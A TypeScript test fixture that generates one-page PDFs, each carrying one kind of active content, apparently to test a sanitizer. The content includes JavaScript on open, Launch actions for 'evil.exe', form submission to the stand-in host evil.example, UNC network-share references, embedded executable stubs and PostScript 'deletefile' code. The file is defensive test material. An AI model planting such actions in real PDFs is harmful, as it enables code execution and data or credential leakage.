import { type PdfObjects, pdfStream, writePdf } from "./pdf-writer.ts";
import { pageTree } from "./pdfs.ts";

/** What an active PDF has besides a page that says "Visible text". Its own objects are numbered from 10. */
export interface ActivePart {
  catalog?: string;
  page?: string;
  resources?: string;
  /** Page content drawn after the text. */
  content?: string;
  annotations?: number[];
  objects?: PdfObjects;
}

/** Part of everything that must be removed: scripts, programs, addresses, file names. */
export const MARKER = "evil";
const URL = `(http://${MARKER}.example/)`;
const UNC = `(\\\\\\\\${MARKER}.example\\\\share\\\\a.pdf)`;
const SCRIPT = `<< /S /JavaScript /JS (app.alert\\("${MARKER}"\\)) >>`;
const PROGRAM = pdfStream(Buffer.from(`MZ ${MARKER}.exe`), "/Type /EmbeddedFile");
const FILE = `<< /Type /Filespec /F (${MARKER}.exe) /UF (${MARKER}.exe) /EF << /F 11 0 R >> >>`;
const RECT = "/Rect [100 600 300 650]";
/** The flag of an annotation that is printed. */
const PRINT = "/F 4";

const link = (action: string): ActivePart => ({
  annotations: [10],
  objects: { 10: `<< /Type /Annot /Subtype /Link ${RECT} ${PRINT} /A ${action} >>` },
});
const annotation = (subtype: string, more: string, objects: PdfObjects = {}): ActivePart => ({
  annotations: [10],
  objects: { 10: `<< /Type /Annot /Subtype /${subtype} ${RECT} ${PRINT} ${more} >>`, ...objects },
});
const field = (more: string): ActivePart => ({
  catalog: "/AcroForm << /Fields [10 0 R] >>",
  ...annotation("Widget", `/FT /Tx /T (name) /V (Asha) /AP << /N 12 0 R >> ${more}`, {
    12: pdfStream(Buffer.from("0 0 200 50 re f"), "/Type /XObject /Subtype /Form /BBox [0 0 200 50]"),
  }),
});
const picture = (entries: string): ActivePart => ({
  resources: "/XObject << /Picture 10 0 R >>",
  content: "q 100 0 0 100 100 300 cm /Picture Do Q",
  objects: {
    10: pdfStream(
      Buffer.from([0]),
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 ${entries}`,
    ),
    11: PROGRAM,
    12: FILE,
  },
});

/** All types of actions, and of other objects that are never drawn, by ISO 32000-2. */
const ACTION_TYPES =
  "GoTo GoToR GoToE GoToDp Launch Thread URI Sound Movie Hide Named SubmitForm ResetForm ImportData SetOCGState Rendition Trans GoTo3DView JavaScript RichMediaExecute".split(
    " ",
  );
const OTHER_TYPES = ["Action", "Annot", "Filespec", "EmbeddedFile", "Sig"];
const properties = (kinds: string[]): ActivePart => ({
  resources: `/Properties << ${kinds.map((kind, at) => `/P${at} << ${kind} /F (${MARKER}.exe) >>`).join(" ")} >>`,
  content: kinds.map((_, at) => `/A /P${at} BDC EMC`).join(" "),
});

/** One PDF of each kind that does something or embeds something. */
export const ACTIVE_PARTS: Record<string, ActivePart> = {
  "a script on opening": { catalog: `/OpenAction ${SCRIPT}` },
  "a launch on opening": { catalog: `/OpenAction << /S /Launch /F (${MARKER}.exe) >>` },
  "scripts of the document": { catalog: `/AA << /WC ${SCRIPT} /WP ${SCRIPT} >>` },
  "named scripts": { catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` },
  "scripts of a page": { page: `/AA << /O ${SCRIPT} /C << /S /URI /URI ${URL} >> >>` },
  "a link to a site": link(`<< /S /URI /URI ${URL} >>`),
  "a link that starts a program": link(`<< /S /Launch /Win << /F (${MARKER}.exe) /P (/c) >> >>`),
  "a link to a network share": link(`<< /S /GoToR /F ${UNC} /D [0 /Fit] >>`),
  "a link into an attachment": link(`<< /S /GoToE /F ${UNC} /D [0 /Fit] >>`),
  "a link with a chain of actions": link(`<< /S /GoTo /D [3 0 R /Fit] /Next [${SCRIPT}] >>`),
  "a button that sends a form": field(`/A << /S /SubmitForm /F << /FS /URL /F ${URL} >> >>`),
  "a button that reads data": field(`/A << /S /ImportData /F ${UNC} >>`),
  "scripts of a field": field(`/AA << /K ${SCRIPT} /F ${SCRIPT} /V ${SCRIPT} /C ${SCRIPT} >>`),
  "a form in XFA": {
    catalog: "/AcroForm << /Fields [] /XFA 10 0 R >>",
    objects: { 10: pdfStream(Buffer.from(`<xdp:xdp><script>${MARKER}</script></xdp:xdp>`)) },
  },
  "embedded files": {
    catalog: "/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>",
    objects: { 10: FILE, 11: PROGRAM },
  },
  "a file that belongs to a page": { page: "/AF [10 0 R]", objects: { 10: FILE, 11: PROGRAM } },
  "data of other programs": {
    page: `/PieceInfo << /Any << /Private 11 0 R >> >> /Metadata 11 0 R /Thumb 11 0 R`,
    objects: { 11: PROGRAM },
  },
  "an attachment as an annotation": annotation("FileAttachment", `/FS ${FILE}`, { 11: PROGRAM }),
  "a rich media annotation": annotation(
    "RichMedia",
    `/RichMediaContent << /Assets << /Names [(a) ${FILE}] >> >>`,
    { 11: PROGRAM },
  ),
  "a screen annotation": annotation("Screen", `/A << /S /Rendition /OP 0 /JS (${MARKER}) >>`),
  "a movie": annotation("Movie", `/Movie << /F (${MARKER}.avi) >> /A true`),
  "a sound": annotation("Sound", "/Sound 11 0 R", { 11: PROGRAM }),
  "a 3D annotation": annotation("3D", "/3DD 11 0 R", {
    11: pdfStream(Buffer.from(MARKER), `/Type /3D /Subtype /U3D /OnInstantiate 12 0 R`),
    12: pdfStream(Buffer.from(MARKER)),
  }),
  "a popup": annotation("Popup", `/Contents (${MARKER})`),
  "a picture whose bytes are in another file": picture(`/F ${UNC} /FFilter /FlateDecode`),
  "a picture with another one for paper": picture(
    "/Alternates [<< /Image 11 0 R /DefaultForPrinting true >>]",
  ),
  "a picture that a printer replaces": picture(`/OPI << /1.3 << /F ${UNC} >> >>`),
  "a picture with files": picture("/AF [12 0 R] /Metadata 11 0 R"),
  "a page of another document": {
    resources: "/XObject << /Other 10 0 R >>",
    content: "/Other Do",
    objects: {
      10: pdfStream(
        Buffer.from(" "),
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${UNC} /Page 0 >>`,
      ),
    },
  },
  "a program for the printer": {
    resources: "/XObject << /Code 10 0 R >>",
    content: "/Code Do",
    objects: { 10: pdfStream(Buffer.from(`(${MARKER}) deletefile`), "/Type /XObject /Subtype /PS") },
  },
  "resources that are none": {
    resources: `/Junk << /F 11 0 R /Next ${SCRIPT} >>`,
    objects: { 11: PROGRAM },
  },
  "properties that act": { resources: `/Properties << /P ${SCRIPT} >>`, content: "/A /P BDC EMC" },
  "properties that are a file and do not say so": {
    resources: `/Properties << /P << /F (${MARKER}.exe) /EF << /F 11 0 R >> >> >>`,
    content: "/A /P BDC EMC",
    objects: { 11: pdfStream(Buffer.from(`MZ ${MARKER}.exe`)) },
  },
  "properties that are a script and say so elsewhere": {
    resources: `/Properties << /P << /S 11 0 R /JS (${MARKER}) >> >>`,
    content: "/A /P BDC EMC",
    objects: { 11: "/JavaScript" },
  },
  "properties that act in any other way": properties(ACTION_TYPES.map((type) => `/S /${type}`)),
  "properties of a type that is not drawn": properties(OTHER_TYPES.map((type) => `/Type /${type}`)),
  "a drawing that is a program for the printer": {
    resources: "/XObject << /Code 10 0 R >>",
    content: "/Code Do",
    objects: {
      10: pdfStream(
        Buffer.from(`(${MARKER}) deletefile`),
        "/Type /XObject /Subtype /Form /Subtype2 /PS /BBox [0 0 9 9]",
      ),
    },
  },
  "an outline with actions": {
    catalog: "/Outlines 10 0 R",
    objects: {
      10: "<< /Type /Outlines /First 12 0 R /Last 12 0 R /Count 1 >>",
      12: `<< /Title (a) /Parent 10 0 R /A ${SCRIPT} >>`,
    },
  },
};

/** A one-page PDF with these parts. */
export function activePdf({
  catalog = "",
  page = "",
  resources = "",
  content = "",
  annotations = [],
  objects = {},
}: ActivePart): Buffer {
  return writePdf({
    1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    2: pageTree([3]),
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${page}
      /Resources << /Font << /F 5 0 R /AA 5 0 R /JS 5 0 R >> ${resources} >>
      /Annots [${annotations.map((number) => `${number} 0 R`).join(" ")}] >>`,
    4: pdfStream(Buffer.from(`BT /AA 24 Tf 72 700 Td (Visible text) Tj ET ${content}`)),
    5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...objects,
  });
}
